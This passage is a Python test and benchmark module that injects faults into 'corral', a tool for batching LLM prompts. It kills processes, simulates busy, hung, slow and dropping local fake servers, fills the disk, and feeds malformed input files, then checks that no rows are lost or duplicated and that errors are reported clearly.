"""Fault-injection scenarios (issue #7): each runs real `corral` processes against fake servers,
checks what must hold (nothing lost, nothing duplicated, bounded re-sends and time...) and returns
its figures.

The same functions serve two callers: ``tests/test_faults.py`` runs them at CI sizes and asserts,
``benchmarks/faults.py`` runs them at full size and prints the table of figures the README quotes.
A violated property raises AssertionError with the figures so far, in both.

Everything is local: fake servers on 127.0.0.1 (in this process, or as ``python -m tests.fakes``
processes when a test must SIGKILL one), and `corral` as a subprocess, as a user runs it. Waits are
on conditions (a server's counters, a journal's rows), never on fixed sleeps alone, so a loaded
machine makes a scenario slower, not flaky.
"""

from __future__ import annotations

import json
import random
import signal
import sqlite3
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any

from tests.conftest import (
    ServerProcess,
    alive,
    children,
    exactly_once,
    integrity,
    journal_rows,
    one_line_error,
    read_jsonl,
    run_corral,
    start_corral,
    wait_for,
    write_prompts,
)
from tests.fakes import OLLAMA_BUSY_MESSAGE, Blackhole, FakeServer, prompts_of

Figures = dict[str, Any]


# ---- 1. SIGKILL at random moments, then resume ------------------------------------------------

def sigkill_resume(work: Path, rows: int = 2000, kills: int = 20, slots: int = 8,
                   latency: float = 0.03, seed: int = 11) -> Figures:
    """Kill `corral run` with SIGKILL at ``kills`` random moments, re-running it each time.

    After each kill the journal is read: the requests the server received but the journal lacks
    are those the client had in flight (sent, answer not yet committed). Each must be re-sent at
    most once by the next run, and never more of them than the client's slots; rows journaled
    before a kill must never be sent again.
    """
    started = time.monotonic()
    server = FakeServer(slots=slots, latency=latency).start()
    try:
        write_prompts(work / "p.jsonl", rows)
        args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
                "-j", str(slots), "--progress", "none"]
        rng = random.Random(seed)
        boundaries: list[int] = []      # requests received by the server at each kill
        in_flight: list[int] = []       # sent but not journaled at each kill
        for _ in range(kills):
            before = server.completed
            proc = start_corral(args, work)
            # a random moment once this run is under way (it must have work to lose)
            server.wait_until(lambda s, before=before, proc=proc: s.completed > before + 2 or proc.poll() is not None,
                              timeout=60)
            time.sleep(rng.uniform(0.0, 0.25))
            proc.kill()
            proc.communicate(timeout=30)
            assert proc.returncode == -signal.SIGKILL, f"the run ended before its kill: {proc.returncode}"
            server.wait_until(lambda s: s.in_flight == 0, timeout=10)
            received = server.requests
            boundaries.append(len(received))
            sent = {prompt for path, body in received for prompt in prompts_of(path, body)}
            in_flight.append(len(sent) - journal_rows(work / "out.jsonl.corral.db"))
        assert server.completed < rows, "the kills should all land before the job is done"
        code, _, err, _ = run_corral(args, work)
        assert code == 0, err
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        assert all(r["response"] == f"echo: prompt {int(r['id'][4:])}" for r in out)
        received = [prompt for path, body in server.requests for prompt in prompts_of(path, body)]
        resent: list[int] = []
        for k, boundary in enumerate(boundaries):
            seen = set(received[:boundary])
            nxt = boundaries[k + 1] if k + 1 < len(boundaries) else len(received)
            resent.append(sum(1 for p in received[boundary:nxt] if p in seen))
        over = [k for k in range(len(resent)) if resent[k] > in_flight[k]]
        figures = {
            "rows": rows, "kills": kills, "slots": slots, "lost": lost, "duplicated": duplicated,
            "requests": len(received), "resent": sum(resent), "in_flight_at_kills": sum(in_flight),
            "max_in_flight": max(in_flight), "resent_over_in_flight": len(over),
            "seconds": round(time.monotonic() - started, 1),
        }
        assert not lost and not duplicated, figures
        assert not over and max(in_flight) <= slots, (figures, resent, in_flight)
        assert len(received) - rows == sum(resent), figures  # nothing else was sent twice
        figures["setup"] = f"{rows:,} rows, SIGKILL x{kills} at random moments, resumed each time"
        figures["result"] = (f"lost 0, duplicated 0; re-sent {sum(resent)} requests = those in flight "
                             f"at the kills ({sum(in_flight)}, at most {max(in_flight)} per kill, "
                             f"slots {slots})")
        return figures
    finally:
        server.stop()


# ---- 2. one of three servers dies mid-run -----------------------------------------------------

def server_dies(work: Path, rows: int = 3000, slots: int = 4, latency: float = 0.02,
                down_for: float = 1.0) -> Figures:
    """SIGKILL one of three server processes mid-run, start it again ``down_for`` s later.

    Every row must complete on the others, once; the dead server must be benched, re-probed, and
    get work again once it is back. Re-sent requests are at most those it had in flight.
    """
    started = time.monotonic()
    servers = [ServerProcess(work, name, "--slots", str(slots), "--latency", str(latency))
               for name in ("a", "b", "c")]
    victim = servers[0]
    try:
        write_prompts(work / "p.jsonl", rows)
        args = ["run", "p.jsonl", "-m", "llama3.2", "-o", "out.jsonl", "-j", str(slots),
                "--progress", "log", *(x for s in servers for x in ("--server", s.url))]
        proc = start_corral(args, work)
        wait_for(lambda: len(victim.received()) >= min(300, rows // 10) or proc.poll() is not None,
                 60, "the victim server to be busy")
        victim.kill()
        before_death = len(victim.received())
        time.sleep(down_for)
        victim.start()
        _, err = proc.communicate(timeout=300)
        assert proc.returncode == 0, err
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        after_revival = len(victim.received()) - before_death
        requests = sum(len(s.received()) for s in servers)
        benched = f"benching {victim.label}" in err
        back = f"server {victim.label} is back" in err
        figures = {
            "rows": rows, "servers": 3, "lost": lost, "duplicated": duplicated,
            "failed": sum(not r["success"] for r in out), "requests": requests,
            "resent": requests - rows, "benched": benched, "reprobed_back": back,
            "rows_after_revival": after_revival, "victim_slots": slots,
            "seconds": round(time.monotonic() - started, 1),
        }
        assert not lost and not duplicated and not figures["failed"], figures
        assert benched and back, (figures, err[-2000:])
        assert after_revival > 0, figures
        assert requests - rows <= slots, figures  # only what the victim had in flight
        figures["setup"] = (f"{rows:,} rows on 3 servers; one SIGKILLed mid-run, restarted "
                            f"{down_for:g}s later")
        figures["result"] = (f"lost 0, duplicated 0, failed 0; re-sent {requests - rows} (its "
                             f"in-flight, <= {slots} slots); benched, re-probed, then answered "
                             f"{after_revival} more rows")
        return figures
    finally:
        for server in servers:
            server.stop()


# ---- 3. 30% "server busy" ---------------------------------------------------------------------

def busy_503(work: Path, rows: int = 2000, rate: float = 0.3, slots: int = 4) -> Figures:
    """Ollama's full-queue answer (503 "server busy") on ``rate`` of the requests: every row must
    complete, with no retry storm (requests <= 1.6 x rows) and the backoff visible in the log."""
    server = FakeServer(slots=slots, seed=5).start()
    server.fail_rate, server.fail_status, server.fail_message = rate, 503, OLLAMA_BUSY_MESSAGE
    try:
        write_prompts(work / "p.jsonl", rows)
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
             "--progress", "none", "-v"], work)
        assert code == 0, err[-3000:]
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        requests = len(server.requests)
        busy = server.status_counts[503]
        backoffs = [line for line in err.splitlines() if line.startswith("corral: retrying ")]
        figures = {
            "rows": rows, "busy_rate": rate, "lost": lost, "duplicated": duplicated,
            "failed": sum(not r["success"] for r in out), "requests": requests,
            "requests_per_row": round(requests / rows, 3), "busy_answers": busy,
            "backoff_log_lines": len(backoffs), "seconds": round(seconds, 1),
        }
        assert not lost and not duplicated and not figures["failed"], figures
        assert requests <= 1.6 * rows, figures
        assert len(backoffs) == busy and "server busy" in backoffs[0] and " in " in backoffs[0], figures
        figures["setup"] = f"{rows:,} rows; {rate:.0%} of answers are Ollama's 503 \"server busy\""
        figures["result"] = (f"all rows ok; {requests:,} requests = {requests / rows:.2f} x rows "
                             f"(limit 1.6); {len(backoffs)} backoffs logged, e.g. "
                             f"`{backoffs[0].removeprefix('corral: ')[:60]}...`")
        return figures
    finally:
        server.stop()


# ---- 4. a server that accepts connections and never answers ------------------------------------

def hung_server(work: Path, rows: int = 200, timeout: float = 1.0, alone: int = 20) -> Figures:
    """Three cases, each must end on its own: a server that hangs mid-run next to a good one (rows
    move to the good one), a hung server alone (rows fail with the timeout, the run ends), and a
    port that never answers even the probe (skipped after the probe timeout)."""
    figures: Figures = {"rows": rows, "timeout": timeout}
    write_prompts(work / "p.jsonl", rows)
    with ExitStack() as stack:
        good = stack.enter_context(FakeServer(slots=4, latency=0.01))
        hung = stack.enter_context(FakeServer(slots=4))
        hung.hang = True  # probes answer, generation never does
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "-m", "llama3.2", "-o", "next.jsonl", "--server", hung.url,
             "--server", good.url, "--timeout", str(timeout), "--progress", "none"], work)
        assert code == 0, err[-3000:]
        out = read_jsonl(work / "next.jsonl")
        lost, duplicated = exactly_once(out, rows)
        assert not lost and not duplicated and all(r["success"] for r in out)
        assert all(r["server"] == good.url.removeprefix("http://") for r in out)
        figures["beside_good_seconds"] = round(seconds, 1)
        figures["beside_good_hung_requests"] = len(hung.requests)

        alone = min(rows, alone)
        write_prompts(work / "few.jsonl", alone)
        code, _, err, seconds = run_corral(
            ["run", "few.jsonl", "-m", "llama3.2", "-o", "alone.jsonl", "--server", hung.url,
             "--timeout", str(timeout), "--max-attempts", "2", "--progress", "none"], work)
        out = read_jsonl(work / "alone.jsonl")
        assert code == 1 and len(out) == alone, err[-3000:]
        assert all(not r["success"] and "timed out after" in r["error"] for r in out), out[0]
        figures["alone_rows"] = alone
        figures["alone_seconds"] = round(seconds, 1)

        hole = stack.enter_context(Blackhole())
        code, _, err, seconds = run_corral(
            ["run", "few.jsonl", "-m", "llama3.2", "-o", "hole.jsonl", "--server", hole.url,
             "--progress", "none"], work)
        line = one_line_error(err)
        assert code == 2 and "no answer to the probe" in line, err
        figures["blackhole_seconds"] = round(seconds, 1)
        code, _, err, seconds = run_corral(
            ["run", "few.jsonl", "-m", "llama3.2", "-o", "hole2.jsonl", "--server", hole.url,
             "--server", good.url, "--progress", "none"], work)
        assert code == 0 and "skipped unreachable server" in err, err
        figures["blackhole_beside_good_seconds"] = round(seconds, 1)
    figures["setup"] = (f"generation hangs (probes answer), --timeout {timeout:g}s; and a port that "
                        "accepts connections but never answers")
    figures["result"] = (
        f"beside a good server: {rows} rows ok in {figures['beside_good_seconds']}s; alone: "
        f"{alone} rows fail \"timed out\" (2 attempts), run ends in {figures['alone_seconds']}s; "
        f"silent port: skipped after the 5 s probe (alone: exit 2 in {figures['blackhole_seconds']}s)")
    return figures


# ---- 5. slow-loris answers and connections dropped mid-body ------------------------------------

def slow_and_dropped(work: Path, rows: int = 400, rate: float = 0.1, timeout: float = 1.0,
                     transport: str = "lean") -> Figures:
    """``rate`` of answers dribbled over 4 x the timeout (slow-loris), ``rate`` cut mid-body with a
    reset: each must be retried, and no partial answer may be journaled or written as a success."""
    env = {"CORRAL_HTTP": "aiohttp"} if transport == "aiohttp" else {}
    with ExitStack() as stack:
        server = stack.enter_context(FakeServer(slots=8, latency=0.005, seed=3))
        server.slow_body, server.slow_rate, server.drop_rate = 4 * timeout, rate, rate
        write_prompts(work / "p.jsonl", rows)
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
             "--timeout", str(timeout), "--max-attempts", "8", "--progress", "none"], work, env=env)
        # A row dribbled twice fails ("2 attempts timed out": a server that never answers fails a
        # row in bounded time); it must fail as such, never pass a partial answer on.
        assert code in (0, 1), err[-3000:]
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        wrong = [r for r in out if r["success"] and r["response"] != f"echo: prompt {int(r['id'][4:])}"]
        wrong += [r for r in out if not r["success"] and "timed out" not in (r["error"] or "")]
        con = sqlite3.connect(work / "out.jsonl.corral.db")
        stored = [r for (r,) in con.execute("SELECT response FROM results WHERE status = 'ok'")]
        journaled = con.execute("SELECT COUNT(*) FROM results").fetchone()[0]
        con.close()
        # Each prompt is distinct, so each journaled answer must be one whole echo of one of them.
        expected = {f"echo: prompt {i}" for i in range(rows)}
        bad_store = [r for r in stored if r not in expected] + [None] * (len(stored) - len(set(stored)))
        requests = len(server.requests)
        figures = {
            "rows": rows, "transport": transport, "lost": lost, "duplicated": duplicated,
            "wrong_answers": len(wrong), "bad_journal_rows": len(bad_store), "requests": requests,
            "dropped": server.dropped, "retried_rows": sum(r["attempts"] > 1 for r in out),
            "seconds": round(seconds, 1),
        }
        assert not lost and not duplicated and not wrong and not bad_store, figures
        assert journaled == rows and server.dropped > 0 and figures["retried_rows"] > 0, figures
    figures["setup"] = (f"{rows} rows; {rate:.0%} of answers dribbled over {4 * timeout:g}s "
                        f"(--timeout {timeout:g}), {rate:.0%} cut mid-body ({transport} transport)")
    figures["result"] = (f"all rows ok and exact; {figures['retried_rows']} retried "
                         f"({server.dropped} drops); 0 partial answers journaled or written")
    return figures


# ---- 6. a model no server has -------------------------------------------------------------------

def unknown_model(work: Path, rows: int = 1000) -> Figures:
    """A model that is on no server (an Ollama and a vLLM-like one): a clear error within seconds,
    before any generation request."""
    write_prompts(work / "p.jsonl", rows)
    with ExitStack() as stack:
        ollama = stack.enter_context(FakeServer(models=("llama3.2", "mistral")))
        vllm = stack.enter_context(FakeServer(api="openai", models=("llama3.2",)))
        (work / "c.toml").write_text(
            f'[[servers]]\nurl = "{ollama.url}"\n[[servers]]\nurl = "{vllm.url}"\napi = "openai"\n',
            encoding="utf-8")
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "-c", "c.toml", "-m", "qwen3:8b", "-o", "out.jsonl"], work)
        line = one_line_error(err)
        generation = sum(s.path_counts.get(p, 0) for s in (ollama, vllm)
                         for p in ("/api/chat", "/api/generate", "/v1/chat/completions", "/v1/completions"))
        figures = {"rows": rows, "exit_code": code, "seconds": round(seconds, 2),
                   "generation_requests": generation, "message": line}
        assert code == 2 and "'qwen3:8b' is not on any live server" in line, figures
        assert "llama3.2:latest" in line and "mistral:latest" in line, figures
        assert generation == 0, figures  # refused before any generation: fast by construction
        assert not (work / "out.jsonl").exists() and not (work / "out.jsonl.part").exists()
    figures["setup"] = f"{rows:,} rows for a model on neither server (Ollama + vLLM-like)"
    figures["result"] = (f"exit 2 in {seconds:.1f}s (process start included), 0 generation "
                         f"requests: `{line[:90]}...`")
    return figures


# ---- 7. invalid JSON and endless whitespace for a JSON task -------------------------------------

def bad_json(work: Path, rows: int = 50) -> Figures:
    """A JSON task (`--json`) whose model answers prose or broken JSON, or whitespace until the
    token limit (Ollama's JSON-mode failure): every attempt bounded by a token limit, re-asked twice
    with another seed, then the row fails with the reason; good rows are unaffected."""
    figures: Figures = {"rows": rows}
    write_prompts(work / "p.jsonl", rows)
    with ExitStack() as stack:
        # (a) Ollama, no --max-tokens: corral's own bound for JSON asks keeps it finite
        ws = stack.enter_context(FakeServer(slots=8))
        ws.endless_whitespace = True
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "--server", ws.url, "-m", "llama3.2", "--json", "-o", "ws.jsonl",
             "--timeout", "20", "--progress", "none"], work)
        out = read_jsonl(work / "ws.jsonl")
        limits = {body["options"].get("num_predict") for _, body in ws.requests}
        seeds = Counter(body["options"].get("seed") for _, body in ws.requests)
        assert code == 1 and len(out) == rows, err[-2000:]
        assert all(not r["success"] and r["attempts"] == 3 and "only whitespace" in r["error"]
                   for r in out), out[0]
        assert len(ws.requests) == 3 * rows and limits == {4096} and len(seeds) == 3, (limits, seeds)
        figures.update(whitespace_requests=len(ws.requests), whitespace_limit=4096,
                       whitespace_seconds=round(seconds, 1), whitespace_error=out[0]["error"])

        # (b) vLLM-like server with --max-tokens: the user's limit is sent as max_tokens
        ws_openai = stack.enter_context(FakeServer(api="openai", slots=8))
        ws_openai.endless_whitespace = True
        code, _, err, _ = run_corral(
            ["run", "p.jsonl", "--server", ws_openai.url, "--api", "openai", "-m", "llama3.2",
             "--json", "--max-tokens", "64", "-o", "ws2.jsonl", "--progress", "none"], work)
        out = read_jsonl(work / "ws2.jsonl")
        assert code == 1 and all("stopped at the token limit after 64 tokens" in r["error"] for r in out)
        assert {body["max_tokens"] for _, body in ws_openai.requests} == {64}

        # (c) prose / broken JSON for every third row; the others answer JSON
        def answer(body: dict[str, Any]) -> str:
            prompt = body["messages"][-1]["content"]
            if int(prompt.rsplit(" ", 1)[1]) % 3 == 0:
                return 'Sure! Here is the JSON: {"label": "x", "prob": 0.'  # cut off
            return '{"label": "x", "prob": 0.5}'

        prose = stack.enter_context(FakeServer(slots=8, responder=answer))
        code, _, err, seconds = run_corral(
            ["run", "p.jsonl", "--server", prose.url, "-m", "llama3.2", "--json", "-o", "prose.jsonl",
             "--progress", "none"], work)
        out = read_jsonl(work / "prose.jsonl")
        bad = [r for r in out if int(r["id"][4:]) % 3 == 0]
        good = [r for r in out if int(r["id"][4:]) % 3]
        assert code == 1, err[-2000:]
        assert all(not r["success"] and r["attempts"] == 3 and r["error"] == "answer is not JSON"
                   and r["response"].startswith("Sure!") for r in bad), bad[0]
        assert all(r["success"] and r["attempts"] == 1 for r in good), good[0]
        assert len(prose.requests) == 3 * len(bad) + len(good)
        figures.update(prose_rows=len(bad), prose_requests=len(prose.requests),
                       prose_seconds=round(seconds, 1))
    figures["setup"] = (f"`--json`, {rows} rows: whitespace until the token limit (Ollama, no "
                        "--max-tokens; vLLM-like with --max-tokens 64), or prose with cut-off JSON")
    figures["result"] = (f"every attempt bounded (num_predict 4096 sent by default to Ollama, 64 "
                         f"when given), 3 attempts with new seeds, then the row's error: "
                         f"\"{figures['whitespace_error']}\" / \"answer is not JSON\"; "
                         f"good rows 1 attempt")
    return figures


# ---- 8. context overflow -----------------------------------------------------------------------

def context_overflow(work: Path, rows: int = 200) -> Figures:
    """Prompts longer than the context on a vLLM-like and a llama.cpp-like server (both answer 400):
    those rows fail at once with the server's reason, the others succeed, the servers stay in."""
    figures: Figures = {"rows": rows}
    long = {i: "word " * 120 + f"prompt {i}" for i in range(0, rows, 10)}
    write_prompts(work / "p.jsonl", rows, long=long)
    for kind, llamacpp, reason in (("vllm", False, "maximum context length is 100 tokens"),
                                   ("llama.cpp", True, "exceeds the available context size")):
        with FakeServer(api="openai", slots=4, max_context_tokens=100, llamacpp=llamacpp,
                        strict_models=not llamacpp) as server:
            code, _, err, seconds = run_corral(
                ["run", "p.jsonl", "--server", server.url, "--api", "openai", "-m", "llama3.2",
                 "-o", f"{kind}.jsonl", "--progress", "none"], work)
            out = read_jsonl(work / f"{kind}.jsonl")
            failed = [r for r in out if not r["success"]]
            assert code == 1 and len(out) == rows, err[-2000:]
            assert {int(r["id"][4:]) for r in failed} == set(long), failed[:2]
            assert all("HTTP 400" in r["error"] and reason in r["error"] and r["attempts"] == 1
                       for r in failed), failed[0]
            assert len(server.requests) == rows and "benching" not in err
            figures[f"{kind}_failed"] = len(failed)
            figures[f"{kind}_requests"] = len(server.requests)
            figures[f"{kind}_error"] = failed[0]["error"]
            figures[f"{kind}_seconds"] = round(seconds, 1)
    figures["setup"] = f"{rows} rows, {len(long)} longer than the context (vLLM- and llama.cpp-like 400s)"
    figures["result"] = (f"those {len(long)} rows fail at once (1 attempt) with the server's reason, "
                         f"e.g. \"{figures['llama.cpp_error'][:80]}\"; the other rows ok; no benching")
    return figures


# ---- 9. disk full mid-run -----------------------------------------------------------------------

def _file_size_limit(limit: int) -> Callable[[], None]:
    def apply() -> None:  # in the child: every file it writes stops growing at `limit` bytes
        import resource

        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def disk_full(work: Path, rows: int = 3000, limit: int = 1024 * 1024) -> Figures:
    """The disk fills up mid-run, for the journal (RLIMIT_FSIZE: writes fail with EFBIG as on a full
    disk) and for the output (its .part is /dev/full: ENOSPC). Each must stop with one clear line,
    leave the journal intact, and the re-run must complete without re-sending journaled rows."""
    figures: Figures = {"rows": rows}
    write_prompts(work / "p.jsonl", rows)
    with FakeServer(slots=8, latency=0.002) as server:
        for case in ("journal", "output"):
            out, db = work / f"{case}.jsonl", work / f"{case}.jsonl.corral.db"
            args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", out.name,
                    "--progress", "none"]
            popen: dict[str, Any] = {}
            if case == "journal":
                popen["preexec_fn"] = _file_size_limit(limit)
            else:
                (work / f"{out.name}.part").symlink_to("/dev/full")
            server.reset_stats()
            code, _, err, seconds = run_corral(args, work, **popen)
            line = one_line_error(err)
            assert code == 2, err
            assert any(x in line for x in ("disk is full", "disk full", "File too large",
                                           "No space left")), line
            assert integrity(db) == "ok"
            kept = journal_rows(db)
            assert 0 < kept < rows, (kept, line)
            first_sent = len(server.requests)
            (work / f"{out.name}.part").unlink(missing_ok=True)
            server.reset_stats()
            code, _, err, _ = run_corral(args, work)
            assert code == 0, err[-2000:]
            lost, duplicated = exactly_once(read_jsonl(out), rows)
            resent = len(server.requests) - (rows - kept)
            assert not lost and not duplicated and resent == 0, (lost, duplicated, resent)
            assert integrity(db) == "ok" and journal_rows(db) == rows
            figures[f"{case}_error"] = line
            figures[f"{case}_journaled_before"] = kept
            figures[f"{case}_sent_before"] = first_sent
            figures[f"{case}_resent"] = resent
            figures[f"{case}_seconds"] = round(seconds, 1)
    figures["setup"] = (f"{rows:,} rows; the journal hits a {limit // 1024} KB file-size limit "
                        "(EFBIG), or the output is /dev/full (ENOSPC)")
    figures["result"] = (f"exit 2 with one line (`{figures['journal_error'][15:75]}...`); "
                         f"journal integrity ok with {figures['journal_journaled_before']} / "
                         f"{figures['output_journaled_before']} rows kept; the re-run completes, "
                         "lost 0, duplicated 0, 0 journaled rows re-sent")
    return figures


# ---- 10. malformed inputs -----------------------------------------------------------------------

_BIG = "word " * 2_100_000  # 10.5 MB of text in one cell / one prompt


def _csv(rows: list[str]) -> bytes:
    return ("\n".join(rows) + "\n").encode()


#: (name, file name, content, extra args, fragment of the error). ``{f}`` in args is the file;
#: commands run against a live fake server, so only the input can be at fault.
BAD_INPUTS: list[tuple[str, str, bytes, list[str], str]] = [
    ("broken JSONL line", "p.jsonl", b'{"prompt": "ok"}\n{"prompt": "broken"\n', ["run"],
     "p.jsonl:2: invalid JSON"),
    ("Latin-1 byte in UTF-8 JSONL", "p.jsonl", b'{"prompt": "ok"}\n{"prompt": "Zo\xeb"}\n', ["run"],
     "p.jsonl:2: not UTF-8"),
    ("UTF-16 JSONL", "p.jsonl", '{"prompt": "ok"}\n'.encode("utf-16"), ["run"],
     "p.jsonl:1: file is UTF-16, not UTF-8"),
    ("NUL byte in JSONL", "p.jsonl", b'{"prompt": "ok"}\n{"prompt": "a\x00b"}\n', ["run"],
     "p.jsonl:2: contains a NUL byte"),
    ("empty JSONL", "p.jsonl", b"\n\n", ["run"], "p.jsonl: no prompts: the file is empty"),
    ("JSON array, not an object", "p.jsonl", b'{"prompt": "ok"}\n[1, 2]\n', ["run"],
     "p.jsonl:2: expected a JSON object"),
    ("line without a prompt", "p.jsonl", b'{"text": "no prompt key"}\n', ["run"],
     "p.jsonl:1: expected one of prompt, messages"),
    ("duplicate custom_id (Batch lines)", "b.jsonl",
     b'{"custom_id": "a", "method": "POST", "url": "/v1/chat/completions", "body": {"messages": '
     b'[{"role": "user", "content": "x"}]}}\n{"custom_id": "a", "method": "POST", "url": '
     b'"/v1/chat/completions", "body": {"messages": [{"role": "user", "content": "y"}]}}\n',
     ["run"], "b.jsonl:2: duplicate id 'a'"),
    ("CSV with an unbalanced quote", "t.csv", _csv(['id,text', '1,"fine"', '2,"never closed', '3,x']),
     ["analyze", "--text-column", "text"], "t.csv:3: bad CSV: a quoted field starting on this line never ends"),
    ("CSV row with extra fields", "t.csv", _csv(["id,text", "1,a", "2,b,c,d"]),
     ["analyze", "--text-column", "text"], "t.csv:3: bad CSV: expected 2 fields, found 4"),
    ("CSV missing the text column", "t.csv", _csv(["id,body", "1,a"]),
     ["analyze", "--text-column", "text"], "t.csv:1: no column 'text' (columns: id, body)"),
    ("empty CSV", "t.csv", b"", ["analyze", "--text-column", "text"], "t.csv: empty file"),
    ("Latin-1 CSV", "t.csv", "id,text\n1,Köln\n".encode("latin-1"), ["analyze", "--text-column", "text"],
     "t.csv:2: not UTF-8"),
    ("NUL byte in CSV", "t.csv", b"id,text\n1,a\x00b\n", ["analyze", "--text-column", "text"],
     "t.csv:2: NUL byte"),
    ("CSV named .parquet", "t.parquet", b"id,text\n1,a\n", ["analyze", "--text-column", "text"],
     "t.parquet: not a Parquet file"),
    ("config: unknown key", "c.toml", b'model = "llama3.2"\nmax_concurency = 4\n', ["config"],
     "c.toml:2: unknown key(s) max_concurency"),
    ("config: bad URL", "c.toml", b'[[servers]]\nurl = "http://bad host:11434"\n', ["config"],
     "c.toml:2: servers[1]: bad server URL"),
    ("config: invalid TOML", "c.toml", b'model = "llama3.2\n', ["config"], "c.toml:1: invalid TOML"),
]

#: Inputs that are unusual but valid: they must just work.
GOOD_ODD_INPUTS: list[tuple[str, str, bytes, list[str]]] = [
    ("UTF-8 BOM (JSONL)", "p.jsonl", b'\xef\xbb\xbf{"prompt": "ok"}\n', ["run"]),
    ("UTF-8 BOM (CSV)", "t.csv", b"\xef\xbb\xbfid,text\n1,ok\n", ["analyze", "--text-column", "text"]),
    ("10 MB single cell (CSV)", "t.csv", f"id,text\n1,ok\n2,{_BIG}\n".encode(),
     ["analyze", "--text-column", "text"]),
    ("10 MB prompt (JSONL)", "p.jsonl", b'{"prompt": "ok"}\n{"prompt": "' + _BIG.encode() + b'"}\n', ["run"]),
]


def _input_command(kind: list[str], name: str, url: str) -> list[str]:
    if kind[0] == "run":
        return ["run", name, "--server", url, "-m", "llama3.2", "-o", "out.jsonl", "--progress", "none"]
    if kind[0] == "analyze":
        return ["analyze", name, *kind[1:], "--server", url, "-m", "llama3.2", "-o", "out.csv",
                "--progress", "none"]
    return ["run", "ok.jsonl", "-c", name, "--server", url, "-m", "llama3.2", "-o", "out.jsonl"]


def bad_input(work: Path, server: FakeServer, case: tuple[str, str, bytes, list[str], str]) -> Figures:
    """One malformed input through the CLI: exit 2, one line naming the file (and line), nothing sent."""
    label, name, content, kind, fragment = case
    work.mkdir(parents=True, exist_ok=True)
    (work / name).write_bytes(content)
    (work / "ok.jsonl").write_text('{"prompt": "ok"}\n', encoding="utf-8")
    before = len(server.requests)
    code, _, err, seconds = run_corral(_input_command(kind, name, server.url), work, timeout=120)
    line = one_line_error(err)
    assert code == 2, (label, code, err)
    assert line.startswith(f"corral: error: {fragment}"), (label, line)
    assert len(server.requests) == before, (label, "requests were sent")
    return {"case": label, "error": line, "seconds": round(seconds, 2)}


def odd_input(work: Path, server: FakeServer, case: tuple[str, str, bytes, list[str]]) -> Figures:
    label, name, content, kind = case
    work.mkdir(parents=True, exist_ok=True)
    (work / name).write_bytes(content)
    code, _, err, seconds = run_corral(_input_command(kind, name, server.url), work, timeout=180)
    assert code == 0 and "Traceback" not in err, (label, err[-2000:])
    return {"case": label, "seconds": round(seconds, 2)}


def bad_inputs(work: Path) -> Figures:
    """Every case of BAD_INPUTS and GOOD_ODD_INPUTS, each in its own folder."""
    results, odd = [], []
    with FakeServer(slots=4) as server:
        for i, case in enumerate(BAD_INPUTS):
            results.append(bad_input(work / f"bad{i}", server, case))
        for i, case in enumerate(GOOD_ODD_INPUTS):
            odd.append(odd_input(work / f"odd{i}", server, case))
    figures: Figures = {"cases": len(results), "one_line_exit_2": len(results),
                        "max_seconds": max(r["seconds"] for r in results), "accepted": len(odd),
                        "errors": [r["error"] for r in results]}
    figures["setup"] = (f"{len(results)} malformed inputs (JSONL, CSV, Parquet, TOML config) and "
                        f"{len(odd)} odd but valid ones (BOMs, a 10 MB cell, a 10 MB prompt)")
    figures["result"] = (f"{len(results)}/{len(results)}: exit 2, one line `file:line: problem`, no "
                         f"traceback, nothing sent; the {len(odd)} valid ones run (exit 0)")
    return figures


# ---- 11. two runs on the same journal at once ---------------------------------------------------

def two_runs(work: Path, rows: int = 400, latency: float = 0.05, slots: int = 4) -> Figures:
    """A second `corral run` (same command, or another output on the same journal) while the first
    is running: refused at once with a clear message, nothing sent, the first run's output and
    journal intact. The same for a table job (`corral analyze`)."""
    pace = [latency]  # slowed down while the second runs try, so the first is surely still running
    with FakeServer(slots=slots, latency=lambda body: pace[0]) as server:
        write_prompts(work / "p.jsonl", rows)
        args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
                "-j", str(slots), "--progress", "none"]
        first = start_corral(args, work)
        server.wait_until(lambda s: s.completed >= 20, timeout=60)
        pace[0] = 1.0
        assert first.poll() is None, "the first run ended too soon"
        sent = len(server.requests)
        code, _, err_same, seconds = run_corral(args, work)
        line_same = one_line_error(err_same)
        assert code == 2 and "another corral process is writing this output" in line_same, err_same
        other = [a if a != "out.jsonl" else "other.jsonl" for a in args]
        code, _, err_store, _ = run_corral([*other, "--store", "out.jsonl.corral.db"], work)
        line_store = one_line_error(err_store)
        assert code == 2 and "in use by another corral process" in line_store, err_store
        assert not (work / "other.jsonl.part").exists() and not (work / "other.jsonl").exists()
        during = server.count_by_prompt()
        assert first.poll() is None, "the first run ended too soon"
        pace[0] = latency
        _, err = first.communicate(timeout=300)
        assert first.returncode == 0, err
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        sent_twice = sum(n > 1 for n in server.count_by_prompt().values())
        assert not lost and not duplicated and sent_twice == 0, (lost, duplicated, sent_twice)
        assert integrity(work / "out.jsonl.corral.db") == "ok"
        assert sum(during.values()) >= sent  # (the refused runs sent nothing: no prompt twice)

        # the same for a table job
        (work / "t.csv").write_text("id,text\n" + "".join(f"{i},text {i}\n" for i in range(rows)),
                                    encoding="utf-8")
        table_args = ["analyze", "t.csv", "--text-column", "text", "--server", server.url,
                      "-m", "llama3.2", "-o", "t_out.csv", "--progress", "none"]
        before = server.completed
        table = start_corral(table_args, work)
        server.wait_until(lambda s: s.completed >= before + 10, timeout=60)
        pace[0] = 1.0
        code, _, err_table, _ = run_corral(table_args, work)
        line_table = one_line_error(err_table)
